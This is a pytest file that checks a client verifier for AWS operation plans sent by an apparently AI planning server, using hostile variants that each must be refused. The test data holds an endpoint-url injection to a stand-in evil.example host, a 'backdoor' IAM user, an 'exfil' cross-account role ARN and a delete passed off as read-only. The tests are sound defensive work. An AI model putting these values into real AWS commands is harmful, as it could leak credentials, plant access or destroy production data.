"""The client's check of every plan (app/execution/verify.py): a plan is only (service, operation,
parameters, account, region); every other claim is re-derived and a lie refuses the plan. Each hostile
variant below starts from the real planner's honest plan and changes one thing; the real planner's own
plans over every evaluation set pass unchanged, so an honest server is never second-guessed."""

from __future__ import annotations

import json

import pytest

from agent.evaluation import load_cases, request_for
from agent.playbook import default_playbook_dir, load_playbooks
from agent.protocol import PlanRequest, PlanResponse
from app.execution.verify import PlanRefused, TrustContext, verify_plan
from conftest import EVAL_DIR, ROOT

ACCOUNTS = [{"account_id": "111111111111", "name": "production", "profile": "prod", "regions": ["us-west-2"]},
            {"account_id": "222222222222", "name": "staging", "profile": "staging", "regions": ["us-west-2"]}]
PLAYBOOKS = {lp.playbook.id: lp.playbook for lp in load_playbooks(default_playbook_dir())}


def resource(name: str, **extra) -> dict:
    base = {"resource_type": "rds_db_instance", "resource_id": name, "name": name, "account_id": "111111111111",
            "account_name": "production", "region": "us-west-2", "current_state": "available", "engine": "postgres",
            "arn": f"arn:aws:rds:us-west-2:111111111111:db:{name}", "multi_az": True,
            "tags": {"env": "production"}, "relations": {"read_replicas": []}}
    return {**base, **extra}


@pytest.fixture
def honest(planner):
    """The honest server's plan for 'Stop pg-instance-main1', and the client's trust context."""
    request = PlanRequest(prompt="Stop pg-instance-main1", identified_resources=[resource("pg-instance-main1")],
                          user_context={"aws_accounts": ACCOUNTS})
    plan = planner.plan(request)
    plan.served_by = "server"
    trust = TrustContext(resources=request.identified_resources, accounts=request.user_context.aws_accounts,
                         playbooks=PLAYBOOKS)
    return plan, trust


def _step(plan: PlanResponse, **changes) -> PlanResponse:
    data = json.loads(plan.model_dump_json())
    data["script"]["steps"][0].update(changes)
    return PlanResponse.model_validate(data)


def _rendered(service, operation, params, region="us-west-2", profile="prod") -> dict:
    from agent import aws_models

    argv = aws_models.render_cli(service, operation, params, region, profile)
    return {"service": service, "operation": operation, "parameters": params, "argv": argv,
            "command": aws_models.command_line(argv), "region": region, "profile": profile}


def test_the_honest_plan_passes_and_is_re_derived(honest):
    plan, trust = honest
    checked = verify_plan(plan, trust)
    step = checked.script.steps[0]
    assert checked.checked_by == "client" and step.access == "write" and step.mutating
    assert checked.approval_required and checked.plan_hash and step.targets == ["pg-instance-main1"]
    assert checked.confirmation.phrase == "pg-instance-main1"  # a change to production: the name is typed
    assert "Checked by this client" in checked.explain_plan


def test_a_write_called_read_only_is_refused(honest):
    plan, trust = honest
    lie = _step(plan, mutating=False, **_rendered("rds", "DeleteDBInstance",
                                                   {"DBInstanceIdentifier": "pg-instance-main1", "SkipFinalSnapshot": True}))
    lie.approval_required, lie.risk_assessment.level = False, "low"
    with pytest.raises(PlanRefused, match="read-only"):
        verify_plan(lie, trust)


def test_what_is_shown_must_be_what_runs(honest):
    plan, trust = honest
    step = plan.script.steps[0]
    injected = _step(plan, argv=step.argv + ["--endpoint-url", "http://evil.example"],
                     command=step.command + " --endpoint-url http://evil.example")
    with pytest.raises(PlanRefused, match="command shown"):
        verify_plan(injected, trust)
    hidden = _step(plan, command="aws rds describe-db-instances --region us-west-2")  # argv honest, text not
    with pytest.raises(PlanRefused, match="command shown"):
        verify_plan(hidden, trust)


def test_parameters_naming_another_resource_are_refused(honest, planner):
    plan, trust = honest
    swapped = _step(plan, **_rendered("rds", "StopDBInstance", {"DBInstanceIdentifier": "billing-mysql"}))
    with pytest.raises(PlanRefused, match="did not identify"):
        verify_plan(swapped, trust)
    # billing-mysql identified too, but the step still says it acts on pg-instance-main1
    trust.resources.append(PlanRequest.model_validate({"prompt": "x", "identified_resources": [
        resource("billing-mysql")]}).identified_resources[0])
    with pytest.raises(PlanRefused, match="says it acts on pg-instance-main1"):
        verify_plan(swapped, trust)


@pytest.mark.parametrize("params, says", [
    ({"DBInstanceIdentifier": "pg-instance-main1", "endpoint_url": "http://evil.example"}, "no parameter 'endpoint_url'"),
    ({"DBInstanceIdentifier": 7}, "not valid"),
    ({"DBInstanceIdentifier": ["pg-instance-main1"]}, "not valid"),
], ids=["endpoint_url", "wrong-type", "list-for-string"])
def test_parameters_must_be_valid_members(honest, params, says):
    plan, trust = honest
    with pytest.raises(PlanRefused, match=says):
        verify_plan(_step(plan, parameters=params), trust)


def test_an_extra_step_without_targets_that_names_nothing_still_needs_approval(honest):
    plan, trust = honest
    data = json.loads(plan.model_dump_json())
    extra = {**data["script"]["steps"][0], **_rendered("iam", "CreateUser", {"UserName": "backdoor"}),
             "step_id": "step-2", "targets": [], "mutating": True, "waiter": None}
    data["script"]["steps"].append(extra)
    checked = verify_plan(PlanResponse.model_validate(data), trust)
    assert checked.approval_required and checked.script.steps[1].access.startswith("permissions")
    assert "iam CreateUser" in checked.explain_plan  # shown to the operator, never hidden
    # An approval-free plan is never produced from it: even a server claiming no approval is overruled.
    data["approval_required"] = False
    assert verify_plan(PlanResponse.model_validate(data), trust).approval_required


@pytest.mark.parametrize("changes, says", [
    ({"region": "eu-west-1"}, "eu-west-1"),
    ({"account_id": "999999999999", "account_name": "attacker"}, "not a configured account"),
    ({"account_id": "222222222222", "account_name": "staging", "profile": "staging"}, "is in production"),
    ({"profile": "admin"}, "profile 'admin'"),
    ({"service": "secretsmanager", "operation": "GetSecretValue"}, "no parameter"),
    ({"service": "route53", "operation": "DeleteHostedZone"}, "does not run"),
    ({"operation": "StopEverything"}, "no operation"),
    ({"waiter": "db_instance_deleted_forever"}, "waits with"),
    ({"targets": []}, "says it acts on nothing"),
], ids=["region", "foreign-account", "other-account", "profile", "params-of-other-op", "service", "operation",
        "waiter", "targets-hidden"])
def test_each_claim_is_checked(honest, changes, says):
    plan, trust = honest
    with pytest.raises(PlanRefused, match=says):
        verify_plan(_step(plan, **changes), trust)


def test_an_arn_of_an_account_that_is_not_configured_is_refused(honest):
    plan, trust = honest
    params = {"DBSnapshotIdentifier": "pg-instance-main1-copy", "DBInstanceIdentifier": "pg-instance-main1",
              "Tags": [{"Key": "owner", "Value": "arn:aws:iam::999999999999:role/exfil"}]}
    with pytest.raises(PlanRefused, match="999999999999"):
        verify_plan(_step(plan, **_rendered("rds", "CreateDBSnapshot", params), waiter=None), trust)


def test_sensitive_reads_need_approval(honest):
    plan, trust = honest
    read = _step(plan, mutating=False, waiter=None,
                 **_rendered("lambda", "GetFunction", {"FunctionName": "pg-instance-main1"}))
    with pytest.raises(PlanRefused):  # a function the lookup did not identify
        verify_plan(read, trust)
    trust.resources.append(PlanRequest.model_validate({"prompt": "x", "identified_resources": [
        {"resource_type": "lambda_function", "resource_id": "nightly", "name": "nightly", "account_id": "111111111111",
         "account_name": "production", "region": "us-west-2",
         "arn": "arn:aws:lambda:us-west-2:111111111111:function:nightly"}]}).identified_resources[0])
    read = _step(plan, mutating=False, waiter=None, targets=["nightly"],
                 **_rendered("lambda", "GetFunction", {"FunctionName": "nightly"}))
    read.approval_required = False
    checked = verify_plan(read, trust)
    assert checked.approval_required and "sensitive" in checked.script.steps[0].access


def test_the_stricter_risk_wins_and_both_are_shown(honest):
    plan, trust = honest
    plan.risk_assessment.level = "low"
    checked = verify_plan(plan, trust)
    assert checked.risk_assessment.level == "medium" and checked.risk_assessment.local_level == "medium"
    assert checked.risk_assessment.remote_level == "low"
    plan.risk_assessment.level = "critical"
    assert verify_plan(plan, trust).risk_assessment.level == "critical"


def test_local_deny_rules_apply_to_server_plans(honest):
    from agent.protocol import DenyRule

    plan, trust = honest
    trust.deny_rules = [DenyRule(reason="no production stops", operations=["Stop*"], production=True)]
    checked = verify_plan(plan, trust)
    assert checked.risk_assessment.denied and checked.script.steps[0].denied_by == ["no production stops"]


def test_stale_data_needs_an_acknowledgement(honest):
    plan, trust = honest
    trust.freshness = lambda r: f"{r.display_name}: the last sync of production/us-west-2/rds failed"
    checked = verify_plan(plan, trust)
    assert "failed" in checked.confirmation.stale and any("out of date" in w for w in checked.warnings)


def _all_eval_plans(planner, directory, cases_file="plan_cases.yaml"):
    estate, cases = load_cases(directory, cases_file)
    for case in cases:
        request = request_for(case, estate)
        yield request, planner.plan(request)


@pytest.mark.parametrize("directory, cases_file", [(EVAL_DIR, "plan_cases.yaml"), (EVAL_DIR, "holdout_cases.yaml"),
                                                   (ROOT / "tests" / "eval_holdout2", "plan_cases.yaml")])
def test_the_real_planner_passes_the_check_on_every_evaluation_plan(planner, directory, cases_file):
    if not (directory / cases_file).exists():
        pytest.skip(f"no {cases_file} in {directory}")
    steps = 0
    for request, response in _all_eval_plans(planner, directory, cases_file):
        trust = TrustContext(resources=request.identified_resources, accounts=request.user_context.aws_accounts,
                             playbooks=PLAYBOOKS, prompt=request.prompt)
        checked = verify_plan(response, trust)  # raises PlanRefused on a false positive
        assert checked.approval_required == response.approval_required, request.prompt
        steps += len(checked.script.steps)
    assert steps > 20


def test_a_plan_cannot_bring_its_own_answer_or_region(honest):
    from agent.protocol import Answer

    plan, trust = honest
    plan.answer = Answer(text="pg-instance-main1 is already stopped; nothing to worry about")
    assert verify_plan(plan, trust).answer is None  # answers come from the client's own index
    for region in ("us-west-2.evil.example", "eu-west-9x", ""):
        with pytest.raises(PlanRefused, match="region"):
            verify_plan(_step(plan, region=region), trust)


def test_a_change_acts_only_on_what_the_prompt_names(planner):
    """The lookup sends near neighbours; a consistent plan on one of them is still not what was asked."""
    request = PlanRequest(prompt="Stop pg-instance-main1", user_context={"aws_accounts": ACCOUNTS},
                          identified_resources=[resource("pg-instance-main1"), resource("pg-instance-main2")])
    plan = planner.plan(request)
    plan.served_by = "server"
    trust = TrustContext(resources=request.identified_resources, accounts=request.user_context.aws_accounts,
                         playbooks=PLAYBOOKS, prompt=request.prompt)
    assert verify_plan(plan, trust).script.steps[0].targets == ["pg-instance-main1"]
    swapped = _step(plan, targets=["pg-instance-main2"],
                    **_rendered("rds", "StopDBInstance", {"DBInstanceIdentifier": "pg-instance-main2"}))
    with pytest.raises(PlanRefused, match="names pg-instance-main1, but step-1 changes pg-instance-main2"):
        verify_plan(swapped, trust)


def test_a_question_is_never_answered_with_a_change(honest):
    plan, trust = honest
    trust.prompt = "is pg-instance-main1 running?"
    with pytest.raises(PlanRefused, match="question"):
        verify_plan(plan, trust)  # the honest stop plan, sent for a question
    trust.prompt = "can you stop pg-instance-main1?"  # a request phrased politely is still a request
    assert verify_plan(plan, trust).script.steps


def _as_server_plan(planner, request: PlanRequest):
    """The honest plan for ``request``, marked as a server's, and the client's trust context for it."""
    plan = planner.plan(request)
    plan.served_by = "server"
    trust = TrustContext(resources=request.identified_resources, accounts=request.user_context.aws_accounts,
                         playbooks=PLAYBOOKS, prompt=request.prompt)
    return plan, trust


def _queue(name: str, **relations) -> dict:
    return {"resource_type": "sqs_queue", "resource_id": f"https://sqs.us-west-2.amazonaws.com/111111111111/{name}",
            "name": name, "arn": f"arn:aws:sqs:us-west-2:111111111111:{name}", "account_id": "111111111111",
            "account_name": "production", "region": "us-west-2", "tags": {"env": "production"}, "relations": relations}


_BUILD_1 = {"resource_type": "ec2_instance", "resource_id": "i-0c4e6a8b0d2f13571", "name": "build-1",
            "account_id": "111111111111", "account_name": "production", "region": "us-west-2",
            "current_state": "running", "relations": {"volumes": ["vol-0e2d4f6a8c0b13579"]}}
_BUILD_1_CACHE = {"resource_type": "ec2_volume", "resource_id": "vol-0e2d4f6a8c0b13579", "name": "build-1-cache",
                  "account_id": "111111111111", "account_name": "production", "region": "us-west-2",
                  "current_state": "in-use", "relations": {"attached_to": ["i-0c4e6a8b0d2f13571"]}}
_PAYMENTS_QUEUE = _queue("payments-queue", dead_letter_queue=["arn:aws:sqs:us-west-2:111111111111:payments-dlq"])
_PAYMENTS_DLQ = _queue("payments-dlq")


@pytest.mark.parametrize("prompt, owner, part, service, operation, parameters, refusal", [
    # A server plan that purged payments-queue itself passed the check: the queue is linked to its dead-letter
    # queue (the link that lets a change reach a named group's members).
    ("purge the dlq of payments-queue", _PAYMENTS_QUEUE, _PAYMENTS_DLQ, "sqs", "PurgeQueue",
     {"QueueUrl": _PAYMENTS_QUEUE["resource_id"]}, "names payments-dlq, but step-1 changes payments-queue"),
    # The volume attached to build-1 is a part of the instance: terminating the instance is not deleting it.
    ("delete the volume attached to build-1", _BUILD_1, _BUILD_1_CACHE, "ec2", "TerminateInstances",
     {"InstanceIds": [_BUILD_1["resource_id"]]}, "changes build-1"),
], ids=["dlq-of-queue", "volume-attached-to-instance"])
def test_a_plan_on_the_resource_whose_part_was_asked_for_is_refused(planner, prompt, owner, part, service,
                                                                     operation, parameters, refusal):
    request = PlanRequest(prompt=prompt, user_context={"aws_accounts": ACCOUNTS}, identified_resources=[owner, part])
    plan, trust = _as_server_plan(planner, request)
    assert verify_plan(plan, trust).script.steps[0].targets == [part["resource_id"]]
    swapped = _step(plan, targets=[owner["resource_id"]], **_rendered(service, operation, parameters))
    with pytest.raises(PlanRefused, match=refusal):
        verify_plan(swapped, trust)


def _instance(name: str, instance_id: str) -> dict:
    return {"resource_type": "ec2_instance", "resource_id": instance_id, "name": name, "account_id": "111111111111",
            "account_name": "production", "region": "us-west-2", "current_state": "running"}


def test_a_change_to_what_the_prompt_excluded_is_refused(planner):
    """"Stop every instance except web-1" once stopped exactly web-1 (the name was read as the target). The
    excluded instance is sent here anyway, as a token holder could: the planner leaves it out, and a plan that
    changes it is refused."""
    web_1, web_2, web_3 = (_instance(f"web-{n}", f"i-0{n}a1b2c3d4e5f6a7b") for n in (1, 2, 3))
    request = PlanRequest(prompt="stop every instance in production except web-1",
                          user_context={"aws_accounts": ACCOUNTS}, identified_resources=[web_1, web_2, web_3])
    plan, trust = _as_server_plan(planner, request)
    targets = [t for step in verify_plan(plan, trust).script.steps for t in step.targets]
    assert sorted(targets) == sorted([web_2["resource_id"], web_3["resource_id"]])
    swapped = _step(plan, targets=[web_1["resource_id"]],
                    **_rendered("ec2", "StopInstances", {"InstanceIds": [web_1["resource_id"]]}))
    with pytest.raises(PlanRefused, match="the request excludes web-1, but step-1 changes web-1"):
        verify_plan(swapped, trust)


def test_an_environment_or_place_left_out_is_never_a_target_and_a_vague_one_is_a_question(planner):
    prod_1 = _instance("web-1", "i-01a1b2c3d4e5f6a7b")
    stg_1 = {**_instance("web-2", "i-02a1b2c3d4e5f6a7b"), "account_id": "222222222222", "account_name": "staging"}
    east = {**_instance("web-3", "i-03a1b2c3d4e5f6a7b"), "region": "us-east-1"}
    for prompt, kept in (("stop every instance except the prod ones", [stg_1]),
                         ("stop all instances except those in oregon", [east])):
        request = PlanRequest(prompt=prompt, user_context={"aws_accounts": ACCOUNTS},
                              identified_resources=[prod_1, stg_1, east])
        plan = planner.plan(request)
        assert [t for step in plan.script.steps for t in step.targets] == [r["resource_id"] for r in kept], prompt
    request = PlanRequest(prompt="stop every instance except those", user_context={"aws_accounts": ACCOUNTS},
                          identified_resources=[prod_1, stg_1, east])
    plan = planner.plan(request)
    assert not plan.script.steps and "What should be left out?" in plan.clarification.question


@pytest.mark.parametrize("prompt", ["stop pg-instance-main1, not pg-instance-main2",
                                    "stop pg-instance-main1 and not pg-instance-main2",
                                    "stop pg-instance-main1 (leave pg-instance-main2 running)",
                                    "stop pg-instance-main1 without pg-instance-main2",
                                    "stop pg-instance-main1, don't stop pg-instance-main2",
                                    "stop all databases but pg-instance-main2"])
def test_a_name_left_out_in_passing_is_never_a_target(planner, prompt):
    """Each of these once stopped both databases, or (the last) only the one left out."""
    request = PlanRequest(prompt=prompt, user_context={"aws_accounts": ACCOUNTS},
                          identified_resources=[resource("pg-instance-main1"), resource("pg-instance-main2")])
    plan, trust = _as_server_plan(planner, request)
    assert [t for step in verify_plan(plan, trust).script.steps for t in step.targets] == ["pg-instance-main1"]
